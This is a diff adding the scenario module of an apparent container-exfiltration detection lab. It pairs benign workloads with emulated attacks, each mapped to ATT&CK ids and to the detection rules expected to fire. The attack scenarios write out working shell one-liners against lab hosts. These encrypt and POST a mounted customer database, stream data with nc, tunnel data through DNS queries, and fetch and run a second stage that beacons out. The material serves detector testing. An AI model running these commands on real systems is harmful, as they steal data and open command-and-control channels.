@@ -1,0 +1,249 @@
+"""The scenarios: what runs in the lab's containers, what must be caught.
+
+Workloads are image names (tags of one lab image). The learn phase teaches
+the baseline what the benign workloads normally do; attacks then run either
+in a never-seen image (the seed's `docker run --rm ... my-exfil-container`)
+or inside a known workload that starts behaving differently.
+"""
+
+from __future__ import annotations
+
+import os
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+from .lab import SECOND_IP, SINK_IP, VAULT_IP, Lab
+
+IMG = "sluice-emu/"
+API = IMG + "api-client:latest"
+LOGS = IMG + "log-shipper:latest"
+BACKUP = IMG + "backup-agent:latest"
+EXFIL = IMG + "my-exfil-container:latest"
+DB = IMG + "internal-db:latest"
+BATCH = IMG + "batch:latest"
+TAGS = [API, LOGS, BACKUP, EXFIL, DB, BATCH]
+
+ENC = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab"
+
+
+def https_post(host: str, src: str, path: str = "/upload") -> str:
+    """POST a file over TLS: curl when the image has it, else openssl."""
+    return (f"if command -v curl >/dev/null; then curl -sk --max-time 30 --data-binary @{src} https://{host}{path} >/dev/null; "
+            f"else (printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
+            f"$(wc -c < {src}); cat {src}) | openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1; fi")
+
+
+def http_post(host: str, port: int, src: str, path: str) -> str:
+    """POST a file over plain HTTP with nc (busybox wget --post-file stops
+    at the first NUL byte, so binary bodies need this)."""
+    return (f"(printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
+            f"$(wc -c < {src}); cat {src}) | nc {host} {port} >/dev/null")
+
+
+def https_get(host: str) -> str:
+    return (f"printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n' | "
+            f"openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1")
+
+
+# --- what the benign workloads do (learn phase and benign scenarios) -------------
+
+API_CALL = https_get(SINK_IP)
+LOG_TEXT = f"head -c 20000 /data/text.txt | nc {SINK_IP} 9001"
+LOG_GZIP = f"head -c 30000 /data/text.txt | gzip > /tmp/l.gz; " + http_post(SINK_IP, 8080, "/tmp/l.gz", "/logs")
+BACKUP_RUN = f"head -c 400000 /dev/urandom > /tmp/b; {ENC} -in /tmp/b -out /tmp/b.enc; " + https_post(VAULT_IP, "/tmp/b.enc", "/vault")
+
+
+def loop(body: str, every: float, times: int) -> str:
+    return f"i=0; while [ $i -lt {times} ]; do {body}; i=$((i+1)); sleep {every}; done"
+
+
+@dataclass
+class Ctx:
+    lab: Lab
+    workdir: Path
+    containers: list[str] = field(default_factory=list)
+
+    def run(self, image: str, script: str, **kw: object) -> str:
+        cid, _ip = self.lab.start(image, script, **kw)  # type: ignore[arg-type]
+        self.containers.append(cid)
+        self.lab.wait(cid)
+        return cid
+
+    def start(self, image: str, script: str, **kw: object) -> tuple[str, str | None]:
+        cid, ip = self.lab.start(image, script, **kw)  # type: ignore[arg-type]
+        self.containers.append(cid)
+        return cid, ip
+
+
+@dataclass(frozen=True)
+class Scenario:
+    name: str
+    attack: str                    # ATT&CK id, or "benign"
+    expect: tuple[str, ...]        # rules that must all fire ((): must stay silent / blind spot)
+    description: str
+    run: Callable[[Ctx], None]
+    blind_spot: bool = False       # undetected is the documented expectation
+
+    @property
+    def benign(self) -> bool:
+        return self.attack == "benign"
+
+
+# --- learn phase ------------------------------------------------------------------
+
+
+def learn_phase(ctx: Ctx, seconds: float) -> None:
+    """Benign workloads doing their normal job while the baseline learns."""
+    n = max(3, int(seconds))
+    ctx.start(API, loop(API_CALL, 1, n))
+    ctx.start(LOGS, loop(f"{LOG_TEXT}; {LOG_GZIP}", 1, n))
+    end = time.monotonic() + seconds
+    while time.monotonic() < end - 3:  # nightly backup jobs: short-lived containers
+        ctx.run(BACKUP, BACKUP_RUN)
+        time.sleep(1)
+    for c in list(ctx.containers):
+        ctx.lab.wait(c, timeout=seconds + 30)
+
+
+# --- attacks ------------------------------------------------------------------------
+
+
+def _seed(ctx: Ctx) -> None:
+    data = ctx.workdir / "data"
+    data.mkdir(exist_ok=True)
+    (data / "customers.db").write_bytes(os.urandom(600_000))
+    script = f"{ENC} -in /mnt/data/customers.db -out /tmp/c.enc && " + https_post(SINK_IP, "/tmp/c.enc")
+    ctx.run(EXFIL, script, rm=True, volumes=(f"{data}:/mnt/data",))
+
+
+def _raw(ctx: Ctx) -> None:
+    ctx.run(API, f"head -c 800000 /dev/urandom | {ENC} | nc {SINK_IP} 9000")
+
+
+def _http(ctx: Ctx) -> None:
+    ctx.run(LOGS, f"cat /data/text.txt /data/text.txt | {ENC} > /tmp/p; " + http_post(SINK_IP, 80, "/tmp/p", "/submit"))
+
+
+def _dns(ctx: Ctx) -> None:
+    ctx.run(API, f"{ENC} -in /data/text.txt | head -c 2400 | od -An -tx1 | tr -d ' \\n' | fold -w 56 | "
+                 f"while read l; do nslookup $l.t.exfil-lab.test {SINK_IP} >/dev/null 2>&1; done")
+
+
+def _spike(ctx: Ctx) -> None:
+    ctx.run(API, f"head -c 3000000 /dev/urandom > /tmp/s; " + https_post(SINK_IP, "/tmp/s", "/api/v1/items"))
+
+
+def _new_dest(ctx: Ctx) -> None:
+    ctx.run(API, f"head -c 1200000 /dev/urandom > /tmp/s; " + https_post(SECOND_IP, "/tmp/s"))
+
+
+def _slow(ctx: Ctx) -> None:
+    ctx.run(LOGS, f"(i=0; while [ $i -lt 12 ]; do openssl rand 1000; i=$((i+1)); sleep 1; done) | nc {SECOND_IP} 9004")
+
+
+def _multistage(ctx: Ctx) -> None:
+    ctx.run(API, f"wget -q -O /tmp/.cache-update http://{SINK_IP}/stage2 && chmod +x /tmp/.cache-update && "
+                 "/tmp/.cache-update")
+
+
+STAGE2 = (f"#!/bin/sh\n# stage two: beacon to a second host\n"
+          f"i=0; while [ $i -lt 8 ]; do echo \"hb $i $(hostname)\" | nc {SECOND_IP} 4444; i=$((i+1)); sleep 1; done\n").encode()
+
+
+def _pivot(ctx: Ctx) -> None:
+    _db, ip = ctx.start(DB, "while true; do nc -l -p 7000 > /dev/null; done")
+    time.sleep(1)
+    ctx.run(API, f"head -c 200000 /dev/urandom | nc {ip} 7000")  # the db stays up until cleanup
+
+
+def _burst(ctx: Ctx) -> None:
+    ids = [ctx.lab.start(BATCH, "true", network=False)[0] for _ in range(6)]
+    ctx.containers += ids
+    for c in ids:
+        ctx.lab.wait(c)
+    ctx.run(BATCH, f"head -c 100000 /dev/urandom | nc {SECOND_IP} 9005")
+
+
+# --- benign look-alikes ---------------------------------------------------------------
+
+
+def _b_backup(ctx: Ctx) -> None:
+    ctx.run(BACKUP, BACKUP_RUN)
+
+
+def _b_logs(ctx: Ctx) -> None:
+    ctx.run(LOGS, loop(LOG_GZIP, 0.5, 4))
+
+
+def _b_api(ctx: Ctx) -> None:
+    ctx.run(API, loop(API_CALL, 0.5, 6))
+
+
+def _b_text(ctx: Ctx) -> None:
+    ctx.run(LOGS, loop(LOG_TEXT, 0.5, 4))
+
+
+SCENARIOS: tuple[Scenario, ...] = (
+    Scenario("seed-openssl-https", "T1048.001", ("SL-EXF-005", "SL-EXF-006"),
+             "the seed's `docker run --rm -v /data:/mnt/data my-exfil-container`: openssl enc of a mounted "
+             "file, POSTed over HTTPS", _seed),
+    Scenario("encrypted-raw-tcp", "T1048.001", ("SL-EXF-002",),
+             "a known workload streams openssl-encrypted bytes over raw TCP to port 9000", _raw),
+    Scenario("encrypted-http-post", "T1048.001", ("SL-EXF-003",),
+             "an encrypted file as the body of a plain-HTTP POST", _http),
+    Scenario("dns-tunnel", "T1048.001", ("SL-EXF-003",),
+             "encrypted data, hex-encoded into DNS query names", _dns),
+    Scenario("encrypted-volume-spike", "T1048.001", ("SL-EXF-001",),
+             "a known API client sends 3 MB over its usual HTTPS destination: only the volume is unusual", _spike),
+    Scenario("encrypted-new-destination", "T1048.001", ("SL-EXF-004",),
+             "a known API client sends 1.2 MB over HTTPS to a host it never talked to", _new_dest),
+    Scenario("slow-exfil", "T1048.001", (),
+             "12 KB trickled over one connection in 12 s: the strategy's stated blind spot", _slow,
+             blind_spot=True),
+    Scenario("multi-stage-c2", "T1104", ("SL-C2-001", "SL-C2-002"),
+             "fetch a second stage over HTTP into /tmp, run it, it beacons to a second host", _multistage),
+    Scenario("inter-container-pivot", "T1104", ("SL-C2-003",),
+             "a known API client connects to another container it never talked to", _pivot),
+    Scenario("lifecycle-burst", "T1104", ("SL-C2-004",),
+             "a burst of short container lifecycles, one of them sending to a new host", _burst),
+    Scenario("benign-encrypted-backup", "benign", (),
+             "the nightly backup job: 400 KB encrypted over HTTPS to the allowed vault", _b_backup),
+    Scenario("benign-compressed-logs", "benign", (),
+             "gzip-compressed logs POSTed over HTTP, as learned", _b_logs),
+    Scenario("benign-https-api", "benign", (),
+             "steady small HTTPS API calls, as learned", _b_api),
+    Scenario("benign-plaintext-logs", "benign", (),
+             "plain-text log shipping over TCP, as learned", _b_text),
+)
+
+BY_NAME = {s.name: s for s in SCENARIOS}
+
+LAB_CONFIG = """
+[output]
+events = {events}
+
+[sensor]
+window_seconds = 1.0
+health_interval_seconds = 30.0
+control_socket = "{ctl}"
+
+[runtime]
+docker_socket = "{docker}"
+
+[detection]
+min_baseline_windows = 5
+suppress_seconds = 600.0
+
+[rules.SL-EXF-001]
+min_bytes = 262144
+
+[rules.SL-EXF-004]
+min_bytes = 262144
+
+[[allow]]
+workload = "sluice-emu/backup-agent"
+destination = "{vault}/32"
+comment = "lab: the backup vault"
+"""
